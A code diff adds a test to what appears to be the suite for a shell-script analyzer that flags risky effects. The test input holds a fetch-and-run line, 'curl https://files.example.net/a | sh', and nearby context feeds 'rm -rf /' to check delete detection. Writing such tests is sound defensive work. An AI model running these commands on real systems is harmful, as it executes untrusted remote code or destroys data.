@@ -150,6 +150,13 @@ describe('hostile sizes end in an answer', () => {
     expect(reading(text).effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
   })
 
+  it('says so when a file that runs may hold more texts than are read', () => {
+    const text = (at: number) => (at === 8 ? 'curl https://files.example.net/a | sh' : `echo ${at}`)
+    const writes = Array.from({ length: 12 }, (_, at) => `test -e a${at} && echo '${text(at)}' > t.sh`).join('\n')
+    expect(reading(`echo 'echo x' > t.sh\n${writes}\nbash t.sh`).unknowns).toHaveLength(1)
+    expect(reading(`${writes}\nls`).unknowns).toEqual([])
+  })
+
   it('reads the line before a syntax error', () => {
     expect(reading('rm -rf /\nif').effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
   })
